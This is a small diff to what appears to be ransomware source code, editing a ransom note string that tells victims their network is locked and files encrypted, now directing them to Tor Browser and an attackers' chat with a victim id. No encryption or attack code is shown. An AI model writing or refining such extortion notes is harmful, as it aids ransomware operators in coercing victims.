@@ -186,7 +186,7 @@ NOTE = """\
 YOUR NETWORK IS LOCKED
 
 Your files were encrypted with a strong algorithm. Do not rename them. Do not use recovery tools.
-To get the price of the decryption program, write to the address below.
+To get the price of the decryption program, install Tor Browser and open our chat. Your id: K-4471.
 """
 
 MARKINGS = {
